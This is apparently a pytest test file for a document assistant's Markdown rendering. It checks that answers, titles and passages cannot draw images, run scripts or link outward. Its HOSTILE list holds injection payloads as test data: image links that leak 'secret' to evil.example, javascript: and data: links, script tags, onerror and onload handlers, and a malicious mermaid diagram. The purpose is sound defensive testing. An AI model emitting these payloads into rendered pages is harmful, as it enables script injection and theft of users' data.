"""What models and documents say, as the page shows it: nothing of it draws, links or runs."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from typing import get_args

import pytest
from markdown_it import MarkdownIt

from assistant.access.principal import AccessClass
from assistant.ask.events import Scores, Source, Standing, Step, Successor
from assistant.parts.readers.base import PartKind
from assistant.ui.render import (
    answer_markdown,
    document_link,
    safe_inline,
    safe_markdown,
    sources_markdown,
    step_markdown,
)
from assistant.ui.texts import LANGUAGES, out_of_force, place_text
from tests.unit.samples import source

BAD = "http://evil.example/p.png?d=secret"
CODE = "curl -s https://x.local/a?b=1 > out && cat <out | grep 'a@b.c' # ![x](y) **z**"
CODE_SPAN = f"Так: `{CODE}`, и всё"
HOSTILE = [
    f"![x]({BAD})",
    f"![x]( <{BAD}> 'title')",
    f"[x]({BAD})",
    f"[x](<{BAD}>)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](/documents/../logout)",
    f"[x][e]\n\n[e]: {BAD}",
    f"[e]\n\n[e]: {BAD}",
    f"[e][]\n\n[e]: {BAD}",
    f"![e]\n\n[e]: {BAD}",
    f"[e]\n\n   [e]: <{BAD}> 'title'",
    f"[e]\n\n> [e]: {BAD}",
    f"[e]\n\n> > - [e]: {BAD}",
    f"[e]\n\n- [e]: {BAD}",
    f"[e]\n\n1. [e]: {BAD}",
    f"[two words]\n\n[two\nwords]: {BAD}",
    f"[a\\]b]\n\n[a\\]b]: {BAD}",
    "[e]\n\n[e]:\n/logout",
    "[e]\n\n[e]: /logout",
    f"<{BAD}>",
    "<javascript:alert(1)>",
    "<someone@evil.example>",
    f"{BAD} and HTTPS://EVIL.EXAMPLE and x{BAD} and ftp://evil.example",
    "www.evil.example, WWW.evil.example, someone@evil.example, mailto:someone@evil.example",
    f"<img src={BAD}>",
    f"<img\nsrc='{BAD}'\n>",
    f"text <a href='{BAD}'>x</a> <A HREF={BAD}>y",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><style>@import 'http://evil.example'</style>",
    "<iframe src=//evil.example></iframe><form action=//evil.example><input>",
    "<!-- --><img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>\n> ![x](http://evil.example)",
    "- <img src=x onerror=alert(1)>\n  ![x](http://evil.example)",
    f"| a | b |\n|---|---|\n| ![x]({BAD}) | <img src=x> |",
    f"# ![x]({BAD})\n\n[x]({BAD})\n===",
    f"**[x]({BAD})** _![x]({BAD})_ ~~[x]({BAD})~~",
    f"[![x]({BAD})]({BAD})",
    f"[a [b [c]]]({BAD})",
    f"![a [1] b]({BAD}) and [a [1] b]({BAD})",
    f"[x[1]]({BAD}) [x][1] ![1] ![1]({BAD}) [1]({BAD}) [[1]]({BAD}) !\\[1] \\![1] \\[1] \\\\[1]",
    f"`a` ` ![x]({BAD}) `` ` ![x]({BAD})",
    f"```\ncode\n```\n![x]({BAD})\n~~~\n<img src=x>",
    f"\\![x]({BAD}) !\\[x]({BAD}) \\[x]({BAD}) [x\\]({BAD}) [x]\\\\({BAD})",
    "&lt;img src=x&gt; &#60;img src=x&#62; &#91;x&#93;(http://evil.example)",
    f"[x]\u200b({BAD}) [x]\u00a0({BAD}) [x] ({BAD}) [x]\n({BAD})",
    "[^1]\n\n[^1]: <img src=x>",
    f"[x]({BAD}\n\n[x](\n{BAD}\n)",
    "\x00<img src=x>\r<script>alert(1)</script>\u2028![x](http://evil.example)",
    "[" * 300 + "x" + f"]({BAD})" * 300,
    "[" + "9" * 5000 + "]",
]


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def renderings(markdown: str) -> Iterator[Elements]:
    """As CommonMark, with HTML let through, and with tables and strikethrough."""
    for parser in (MarkdownIt(), MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})):
        yield Elements(parser.render(markdown))


def assert_harmless(markdown: str, links: set[str]) -> None:
    for elements in renderings(markdown):
        for tag, attributes in elements.found:
            assert tag not in {"img", "script", "iframe", "svg", "style", "form", "input", "object"}, markdown
            assert not [name for name in attributes if name.startswith("on") or name == "src"], markdown
            if tag == "a":
                assert attributes.get("href") in links, markdown
    # What GitHub's dialect, and so Gradio's page, links by itself.
    assert not re.search(
        r"(?:https?|ftp)://|www\.|[\w.+-]@[\w-]+\.", re.sub(r"\]\(/documents/[^)]*\)", "", markdown), re.I
    )
    assert "mermaid" not in markdown


def numbered(n: int, text: str = "текст") -> Source:
    return source(n, text, title=f"Документ {n}")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_harmless(text: str) -> None:
    own = {document_link(numbered(1)), document_link(numbered(2))}
    assert_harmless(safe_markdown(text), set())
    assert_harmless(safe_inline(text), set())
    assert_harmless(answer_markdown(text, [numbered(1), numbered(2)]), own)
    assert_harmless(answer_markdown(f"{text}[1]{text}[2] {text}", [numbered(1), numbered(2)]), own)
    assert_harmless(answer_markdown(text, []), set())


@pytest.mark.parametrize("text", HOSTILE)
def test_so_is_every_beginning_of_it(text: str) -> None:
    """An answer streams: the page shows whatever has arrived."""
    for end in range(0, min(len(text), 150)):
        assert_harmless(answer_markdown(text[:end], [numbered(1)]), {document_link(numbered(1))})


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("language", LANGUAGES)
def test_hostile_titles_pages_and_paths_are_harmless(text: str, language: str) -> None:
    plain = numbered(1)
    passage = replace(
        plain.passage, title=text, page=text, path=text, section=text, access_class=AccessClass(text, 2), text=text
    )
    standing = Standing("2025-03-12", superseded_by=Successor("d9", text, "2025-03-12"))
    hostile = replace(plain, passage=passage, scores=Scores(1.0, 0.5, None), standing=standing)
    own = {document_link(plain), "/documents/d9"}
    assert_harmless(sources_markdown([hostile, hostile], language), own)
    assert_harmless(step_markdown(Step(text, (hostile,), 1, 0.1), language), own)
    assert_harmless(step_markdown(Step(text, (), 0, 0.1), language), own)


PLACES = {
    "page": ("стр. 3", "p. 3"),
    "sheet": ("лист «3»", "sheet “3”"),
    "slide": ("слайд 3", "slide 3"),
    "attachment": ("вложение 3", "attachment 3"),
}


@pytest.mark.parametrize("kind", get_args(PartKind))
def test_pages_sheets_slides_and_attachments_have_their_names(kind: str) -> None:
    found = source(1, "текст", page="3", page_kind=kind)
    assert (place_text(found.passage, "ru"), place_text(found.passage, "en")) == PLACES[kind]
    for parser in renderings(sources_markdown([found], "ru")):
        assert f"Отпуск, {PLACES[kind][0]}" in parser.text
    assert place_text(source(1, "текст", page_kind=kind).passage, "ru") == ""


def test_what_replaced_a_document_is_said_and_linked() -> None:
    by = Successor("d9", "Положение «Об отпусках»", "2025-03-12")
    old = source(1, "текст", standing=Standing("2023-02-01", superseded_by=by))
    assert out_of_force(old.standing, "en") == "superseded by “Положение «Об отпусках»” (2025-03-12)"
    (elements, *_) = renderings(sources_markdown([old], "ru"))
    assert "[1] Отпуск, от 01.02.2023" in elements.text
    assert "⚠ заменён: «Положение «Об отпусках»» (12.03.2025)" in elements.text
    links = [attributes["href"] for tag, attributes in elements.found if tag == "a"]
    assert links == [document_link(old), "/documents/d9"]


def test_expired_is_said_and_nothing_of_one_in_force() -> None:
    assert out_of_force(Standing(is_expired=True), "ru") == "срок действия истёк"
    assert out_of_force(Standing("2025-03-12"), "ru") == ""
    assert "⚠" not in sources_markdown([numbered(1)], "ru")


@pytest.mark.parametrize("fence", ["```", "````", "~~~", "- ```", "> ```", "``` ", "```\t"])
def test_no_diagram_is_drawn(fence: str) -> None:
    """Gradio gives mermaid blocks to a library that draws images and links from them."""
    drawing = 'flowchart LR\n A["<img src=http://evil.example>"] --> B\n click A href "javascript:alert(1)"'
    text = f"{fence}mermaid\n{drawing}\n```"
    assert "mermaid" not in safe_markdown(text)
    assert "mermaid" not in safe_markdown(text.replace("mermaid", "Mermaid")).lower()


def test_numbers_become_links_to_their_passages() -> None:
    shown = answer_markdown("Дней 28 [1][2]. Готово![2] Нет [3].", [numbered(1), numbered(2)])
    (elements, *_) = renderings(shown)
    hrefs = [attributes["href"] for tag, attributes in elements.found if tag == "a"]
    assert hrefs == ["/documents/d1?chunk=d1-v-0#found", *["/documents/d2?chunk=d2-v-0#found"] * 2]
    assert elements.text.strip() == "Дней 28 [1][2]. Готово![2] Нет [3]."


@pytest.mark.parametrize(
    "text",
    [
        "1. Первое\n2. Второе",
        "- а\n- б",
        "**жирно** и _курсив_, `код`",
        "| а | б |\n| --- | --- |\n| 1 | 2 |",
        "> цитата",
        "Пишите на почта@компания.рф, см. https://portal.local/a?b=1&c=2 или www.portal.local: там всё.",
        "a < b > c & d [e] (f) [g]: h ![i] # j",
        "Диапазон [10] и список [1, 2].",
        "`ssh user@host` и `@Override`, массив `a[0]`",
        CODE_SPAN,
        "`` a`b `` и ` x ` и \\`не код\\` и `",
        f"Выполните:\n```bash\n{CODE}\n\n  {CODE}\n```\nи **готово**",
        f"~~~\n{CODE}\n```\n~~~\n```` \n```\n{CODE}\n````",
        f"1. Раз:\n   ```sh\n   {CODE}\n     {CODE}\n   ```\n2. Два",
        f"> ```\n> {CODE}\n> ```\n\nдальше",
        f"не закрыт:\n```\n{CODE}",
    ],
)
def test_plain_text_reads_as_it_was_written(text: str) -> None:
    parsers = (MarkdownIt("js-default"), MarkdownIt("js-default", {"html": True}))
    before, after = (Elements(p.render(t)) for p, t in zip(parsers, (text, safe_markdown(text)), strict=True))
    assert after.text.strip() == before.text.strip()
    assert [tag for tag, _ in after.found] == [tag for tag, _ in before.found if tag != "a"]
    one_line = " ".join(text.split())
    assert Elements(MarkdownIt().renderInline(safe_inline(text))).text == one_line


@pytest.mark.parametrize("code", ["`arr[1] & <b>`", "```\narr[1] & <b>\n```"])
def test_code_in_an_answer_has_no_citations(code: str) -> None:
    (elements, *_) = renderings(answer_markdown(f"Так:\n{code}\nсм. [1]", [numbered(1)]))
    assert "arr[1] & <b>" in elements.text
    assert [tag for tag, _ in elements.found if tag in ("a", "b")] == ["a"]


@pytest.mark.parametrize(
    "begin", ["`", "``", "```", "~~~", "\\`", "- ```", "  ```", "    ```", "> ~~~", "1. `", "```` `"]
)
@pytest.mark.parametrize(
    "between", ["", "x", "\n", "\n\n", "\n- y\n", "\n> z\n\n", "` `` ```", "\n  ```\n", "\n~~~~ `\n"]
)
def test_unbalanced_code_lets_nothing_out(begin: str, between: str) -> None:
    own = {document_link(numbered(1))}
    for hostile in (f"<img src={BAD}>", f"![x]({BAD})", "<script>alert(1)</script>[1]", "> <img src=x>"):
        for text in (f"{begin}{between}{hostile}", f"a\n{begin}b{between}{hostile}{begin}{hostile}{between}{hostile}"):
            assert_harmless(answer_markdown(text, [numbered(1)]), own)
            assert_harmless(safe_markdown(text), set())


def test_the_list_of_sources_names_title_page_file_and_class() -> None:
    found = replace(numbered(2), passage=replace(numbered(2).passage, page="7", path="hr/Отпуск (2025).pdf"))
    text = Elements(MarkdownIt().render(sources_markdown([found], "ru"))).text
    assert "[2] Документ 2, стр. 7" in text
    assert "hr/Отпуск (2025).pdf · Отдел: hr" in text
    assert "уровень" not in text, "level 1 goes without saying"


def test_the_passage_stands_below_its_source_as_plain_text() -> None:
    found = numbered(2, "## Порядок\n\n| Срок | 14 дней |\n|---|---|\n\n*Заявление* a_b <b>подают</b> & ждут.")
    elements = Elements(MarkdownIt("commonmark", {"html": True}).render(sources_markdown([found], "ru")))
    assert "ВыдержкаПорядокСрок 14 днейЗаявление a_b <b>подают</b> & ждут." in elements.text
    assert [tag for tag, _ in elements.found].count("br") >= 2, "a line of the document stays a line"
    assert {"details", "summary"} <= {tag for tag, _ in elements.found}
    assert len(Elements(sources_markdown([numbered(1, "слово " * 2000)], "ru")).text) < 2000


def test_the_step_says_why_as_a_table_of_scores() -> None:
    first, second = numbered(1), numbered(2)
    found = (replace(first, scores=Scores(3.456, 0.5, None)), replace(second, scores=Scores(None, 0.25, None)))
    step = Step("Отпуск для удалённых сотрудников", found, 16, 0.1, asked="А для удалённых?")
    elements = Elements(MarkdownIt("js-default").render(step_markdown(step, "ru")))
    text = " ".join(elements.text.split())
    assert "Вы спросили: А для удалённых? Искали: Отпуск для удалённых сотрудников" in text
    assert "документов просмотрено: 16" in text
    assert "№ Выдержка слова (BM25) смысл (вектор) 1 Документ 1 3,46 0,50 2 Документ 2 — 0,25" in text
    assert "переранжирование" not in text, "a way that was not used has no column"
    assert "3.46" in step_markdown(step, "en")
    same = step_markdown(replace(step, asked=f" {step.question} "), "ru")
    assert "Вы спросили" not in same
